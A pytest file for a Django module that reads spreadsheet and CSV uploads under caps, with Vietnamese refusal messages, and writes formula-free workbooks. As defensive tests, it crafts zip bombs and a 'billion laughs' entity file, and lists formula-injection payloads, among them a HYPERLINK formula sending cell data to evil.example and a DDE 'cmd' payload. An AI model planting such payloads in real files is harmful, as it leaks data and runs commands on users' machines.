"""kiemdinh.core.tabular: reading uploads under caps (every refusal in Vietnamese, naming the cap, before the file is
read further than needed) and writing spreadsheets without live formulas. No database."""

import dataclasses
import io
import random
import zipfile
from datetime import date, datetime

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from kiemdinh.core import tabular
from kiemdinh.core.tabular import xlsx_parts
from kiemdinh.core.tests import crafted_xlsx as crafted

HEADER = ["Mã trường", "Tên trường", "Loại trường"]
CAPS = tabular.Caps(
    max_bytes=5 * 1024 * 1024,
    max_unzipped_bytes=20 * 1024 * 1024,
    max_rows=5000,
    max_columns=50,
    max_cell_chars=5000,
)
UNREADABLE = [tabular.UNREADABLE_XLSX]
# The streaming caps behind the checks of the zip directory: what a sheet of empty rows meets once past them.
STREAMING = dataclasses.replace(CAPS, max_unzipped_bytes=200 * 1024 * 1024)


def read(data: bytes, name: str = "danh-sach.xlsx", caps=CAPS):
    return tabular.read_table(SimpleUploadedFile(name, data), caps=caps)


def refusal(data: bytes, name: str = "danh-sach.xlsx", caps=CAPS) -> list[str]:
    with pytest.raises(ValidationError) as refused:
        read(data, name, caps)
    return refused.value.messages


@pytest.fixture
def unzipped(monkeypatch):
    """Counts the uncompressed bytes read from any zip member."""
    counter = {"bytes": 0}
    real = zipfile.ZipExtFile.read

    def counting(stream, n=-1):
        data = real(stream, n)
        counter["bytes"] += len(data)
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting)
    return counter


@pytest.fixture
def no_ratio_check(monkeypatch):
    """Lets a sheet of empty rows past the compression-ratio check, to reach the caps applied while streaming."""
    monkeypatch.setattr(xlsx_parts, "MAX_COMPRESSION_RATIO", 10**9)


# --- what is read ------------------------------------------------------------------------------------------------


def test_values_are_read_as_the_spreadsheet_shows_them():
    sheet = (
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>TH-01</t></is></c><c r="B2" s="1"><v>44079</v></c>'
        '<c r="C2" t="b"><v>1</v></c><c r="D2"><v>1976</v></c><c r="E2"><v>2.5</v></c>'
        '<c r="F2" t="str"><f>A2</f><v>TH-01</v></c><c r="G2" t="s"><v>3</v></c></row>'
        '<row r="4"><c r="B4"/></row>'  # an empty formatted cell: the row is skipped
        '<row r="5"><c r="A5" t="inlineStr"><is><t>  Trường\u00a0 Tiểu học  </t></is></c><c r="C5" s="0"/></row>'
    )
    strings = [
        "<si><t>Mã</t></si>",
        "<si><r><t>Tên </t></r><r><rPr><b/></rPr><t>trường</t></r><rPh><t>PHONETIC</t></rPh></si>",
        "<si><t>Loại</t></si>",
        "<si><t>Trường Tiểu học Hòa Lạc</t></si>",
    ]
    assert read(crafted.xlsx([sheet], shared_strings=strings)) == [
        (1, ["Mã", "Tên trường", "Loại"]),
        (2, ["TH-01", "05/09/2020", "Có", "1976", "2.5", "TH-01", "Trường Tiểu học Hòa Lạc"]),
        (5, ["Trường Tiểu học"]),
    ]


def test_an_openpyxl_workbook_reads_like_before():
    book = Workbook()
    book.active.append(["Mã", "Ngày", "Số"])
    book.active.append(["01", datetime(2021, 1, 2), 3.0])
    book.active.append([None, None, None])
    book.active.append(["=1+1", date(2020, 9, 5), True])
    book.create_sheet("Khác").append(["không đọc"])
    buffer = io.BytesIO()
    book.save(buffer)
    assert read(buffer.getvalue()) == [
        (1, ["Mã", "Ngày", "Số"]),
        (2, ["01", "02/01/2021", "3"]),
        (4, ["", "05/09/2020", "Có"]),  # a formula without a cached value reads as empty, as Excel's data would
    ]


def test_csv_with_semicolons_a_bom_and_quoted_cells():
    data = '\ufeffMã;Tên\r\nTH-1;"Trường A; cơ sở 2"\r\n\r\n;\r\nTH-2;Trường B\r\n'.encode()
    assert read(data, "a.csv") == [(1, ["Mã", "Tên"]), (2, ["TH-1", "Trường A; cơ sở 2"]), (5, ["TH-2", "Trường B"])]


# --- refusals before parsing ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        (b"not a zip at all", "a.xlsx", tabular.UNREADABLE_XLSX),
        (b"PK\x03\x04 truncated", "a.xlsx", tabular.UNREADABLE_XLSX),
        (b"\xd0\xcf\x11\xe0 an encrypted workbook is an OLE file", "a.xlsx", tabular.UNREADABLE_XLSX),
        (b"x", "a.xls", "Tệp Excel 97-2003 (.xls) không được hỗ trợ."),
        (b"x", "a.pdf", "Tệp “a.pdf” không đúng định dạng."),
        (b"", "a.csv", "Tệp rỗng, không có dữ liệu."),
        (b"\xff\xfe\x00", "a.csv", "Tệp CSV phải dùng bảng mã UTF-8."),
    ],
)
def test_files_that_are_not_spreadsheets(data, name, message):
    assert refusal(data, name)[0].startswith(message)


def test_an_upload_over_the_size_cap():
    caps = tabular.Caps(1024 * 1024, CAPS.max_unzipped_bytes, 5000, 50, 5000)
    assert refusal(b"x" * (1536 * 1024), "a.csv", caps) == ["Tệp quá lớn (1,5 MB). Dung lượng tối đa là 1 MB."]


def test_a_member_over_the_unzipped_cap_is_refused_from_the_directory(unzipped):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("xl/media/image1.png", "w") as m:
        for _ in range(25):
            m.write(b"\0" * 1024 * 1024)
    assert len(buffer.getvalue()) < 50_000
    assert refusal(buffer.getvalue()) == [
        "Tệp Excel khi giải nén có phần “xl/media/image1.png” lớn 25 MB, vượt quá giới hạn 20 MB. "
        "Hãy xóa bớt dữ liệu thừa hoặc chia thành nhiều tệp."
    ]
    assert unzipped["bytes"] == 0


def test_members_adding_up_over_the_cap_and_too_many_members():
    buffer = io.BytesIO()
    ab = bytes(97 + (i & 1) for i in range(256))  # random a/b: compresses about 7 times
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(3):
            archive.writestr(f"xl/media/image{i}.bin", random.Random(i).randbytes(8 * 1024 * 1024).translate(ab))
    assert len(buffer.getvalue()) < CAPS.max_bytes
    assert refusal(buffer.getvalue())[0].startswith("Tệp Excel khi giải nén lớn 24 MB, vượt quá giới hạn 20 MB.")

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for i in range(1001):
            archive.writestr(f"x/{i}.xml", b"")
    assert refusal(buffer.getvalue()) == [
        "Tệp Excel chứa 1.001 phần bên trong, vượt quá giới hạn 1.000 phần của một bảng tính. "
        "Hệ thống không đọc tệp này."
    ]


def test_a_deflate_bomb_is_refused_by_its_compression_ratio(unzipped):
    data = crafted.giant_shared_string(HEADER, 15 * 1024 * 1024)  # under the size caps, 1,000 times compressed
    messages = refusal(data)
    assert messages[0].startswith("Tệp Excel có phần chữ của các ô “xl/sharedStrings.xml” bị nén tới")
    assert (
        "vượt quá giới hạn 100 lần của một bảng tính thông thường (thường do có ô chứa văn bản rất dài)"
        in (messages[0])
    )
    assert unzipped["bytes"] == 0


def test_a_member_lying_about_its_size_is_cut_at_the_declared_size_and_refused():
    data = bytearray(crafted.xlsx([crafted.rows_xml([HEADER, ["TH-1", "Trường", "TH"] * 3])]))
    # Shrink the declared size of the sheet in the central directory: zipfile stops there and the CRC fails.
    name = b"xl/worksheets/sheet1.xml"
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    data[central + 24 : central + 28] = (100).to_bytes(4, "little")
    assert refusal(bytes(data)) == UNREADABLE


def test_a_doctype_is_refused_so_no_entity_is_ever_expanded():
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    source = zipfile.ZipFile(io.BytesIO(crafted.xlsx([])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member in source.infolist():
            data = laughs.encode() if member.filename.endswith("sheet1.xml") else source.read(member)
            archive.writestr(member.filename, data)
    assert refusal(buffer.getvalue()) == UNREADABLE


# --- refusals while streaming ---------------------------------------------------------------------------------------


def test_a_declared_dimension_of_six_million_rows_is_refused_at_once(no_ratio_check, unzipped):
    data = crafted.empty_rows(HEADER, 6_000_000, dimension=True, first_data=["TH-1", "Trường", "TH"])
    assert refusal(data, caps=STREAMING) == [
        "Trang tính đầu tiên khai báo 6.000.000 dòng (kể cả dòng trống), vượt quá giới hạn 15.000 dòng. "
        "Hãy xóa các dòng trống thừa ở cuối bảng, hoặc chia thành nhiều tệp (mỗi tệp tối đa 5.000 dòng dữ liệu)."
    ]
    assert unzipped["bytes"] < 200_000  # workbook parts and the first piece of the sheet, of 36 MB


def test_six_million_undeclared_empty_rows_stop_after_the_sheet_row_cap(no_ratio_check, unzipped):
    data = crafted.empty_rows(HEADER, 6_000_000, dimension=False, first_data=["TH-1", "Trường", "TH"])
    assert refusal(data, caps=STREAMING)[0].startswith(
        "Trang tính đầu tiên có hơn 15.000 dòng (kể cả dòng trống), vượt quá giới hạn 15.000 dòng."
    )
    assert unzipped["bytes"] < 300_000


def test_trailing_empty_rows_do_not_count_against_the_rows_of_data(no_ratio_check):
    data = crafted.empty_rows(HEADER, 14_000, dimension=True, first_data=["TH-1", "Trường", "TH"])
    assert read(data) == [(1, HEADER), (2, ["TH-1", "Trường", "TH"])]


def test_a_row_far_below_the_cap_is_refused_without_reading_the_rows_between():
    data = crafted.xlsx([crafted.rows_xml([HEADER]), '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'])
    assert refusal(data)[0].startswith("Trang tính đầu tiên có hơn 15.000 dòng")


def test_rows_of_data_over_the_cap():
    caps = tabular.Caps(CAPS.max_bytes, CAPS.max_unzipped_bytes, 10, 50, 5000)
    rows = [HEADER] + [[f"TH-{i}", "Trường", "TH"] for i in range(11)]
    assert len(read(crafted.xlsx([crafted.rows_xml(rows[:11])]), caps=caps)) == 11  # 10 rows and the header
    assert refusal(crafted.xlsx([crafted.rows_xml(rows)]), caps=caps) == [
        "Tệp có hơn 10 dòng dữ liệu. Mỗi lần chỉ nhập được tối đa 10 dòng; hãy chia thành nhiều tệp."
    ]


def test_columns_over_the_cap_by_dimension_and_by_data():
    assert refusal(crafted.xlsx([crafted.rows_xml([HEADER])], dimension="A1:XFD3")) == [
        "Trang tính đầu tiên có dữ liệu ở cột thứ 16.384 (XFD), vượt quá giới hạn 50 cột. "
        "Hãy xóa các cột thừa rồi tải lên lại."
    ]
    assert refusal(crafted.xlsx([crafted.rows_xml([HEADER, [*[""] * 50, "x"]])])) == [
        "Dòng 2 có dữ liệu ở cột thứ 51 (AY), vượt quá giới hạn 50 cột. Hãy xóa các cột thừa rồi tải lên lại."
    ]
    # Formatted empty cells beyond the last column of data are not data.
    wide = '<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c><c r="CZ2" s="1"/></row>'
    assert read(crafted.xlsx([crafted.rows_xml([HEADER]), wide])) == [(1, HEADER), (2, ["x"])]


def test_cells_over_the_cap_even_when_every_cell_claims_the_same_place(no_ratio_check):
    caps = tabular.Caps(CAPS.max_bytes, CAPS.max_unzipped_bytes, 100, 10, 5000)  # at most 1,000 cells
    row = '<row r="1">' + '<c r="A1"/>' * 1001 + "</row>"
    assert refusal(crafted.xlsx([row]), caps=caps)[0].startswith(
        "Trang tính đầu tiên có hơn 1.000 ô (kể cả ô trống có định dạng), vượt quá giới hạn."
    )


def test_a_shared_string_over_the_cell_cap_is_kept_as_its_length_and_refused_where_used():
    strings = ["<si><t>Mã</t></si>", "<si><t>" + "ab" * 3000 + "</t></si>", "<si><t>" + "x" * 9000 + "</t></si>"]
    unused = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    assert read(crafted.xlsx([unused], shared_strings=strings)) == [(1, ["Mã"])]
    used = unused + '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="C2" t="s"><v>1</v></c></row>'
    assert refusal(crafted.xlsx([used], shared_strings=strings)) == [
        "Ô C2 có 6.000 ký tự, vượt quá giới hạn 5.000 ký tự mỗi ô. Hãy rút gọn nội dung ô này rồi tải lên lại."
    ]


def test_csv_caps():
    assert refusal(b"a,b\n" + b"\n" * 20_000, "a.csv")[0].startswith("Trang tính đầu tiên có hơn 15.000 dòng")
    assert refusal(b"a,b\n" + b"x," * 50 + b"y\n", "a.csv") == [
        "Dòng 2 có dữ liệu ở cột thứ 51 (AY), vượt quá giới hạn 50 cột. Hãy xóa các cột thừa rồi tải lên lại."
    ]
    assert refusal(b'a,"' + b"x" * 6000 + b'"\n', "a.csv") == [
        "Ô B1 có 6.000 ký tự, vượt quá giới hạn 5.000 ký tự mỗi ô. Hãy rút gọn nội dung ô này rồi tải lên lại."
    ]
    assert refusal(b"a\n" + b"x" * 300_000, "a.csv") == [
        "Dòng 2 của tệp CSV dài hơn 250.150 ký tự, vượt quá giới hạn 50 cột × 5.000 ký tự mỗi ô."
    ]
    assert refusal(b'a,"' + b"x" * 200_000 + b'"\n', "a.csv")[0].startswith("Ô ở dòng 1 dài hơn 5.000 ký tự")


# --- writing -------------------------------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def test_workbook_bytes_writes_every_text_as_text_and_marks_formula_like_text():
    book = Workbook()
    book.active.append(["Tên", *HOSTILE, "Bình thường", 3, None])
    book.active.merge_cells("A2:C2")
    reopened = load_workbook(io.BytesIO(tabular.workbook_bytes(book)))
    cells = next(reopened.active.iter_rows(min_row=1, max_row=1))
    assert [c.value for c in cells[1:8]] == HOSTILE
    assert all(c.data_type == "s" for c in cells[:9])
    assert [c.quotePrefix for c in cells[:9]] == [False, True, True, True, True, True, True, False, False]
    assert (cells[9].data_type, cells[9].value) == ("n", 3)
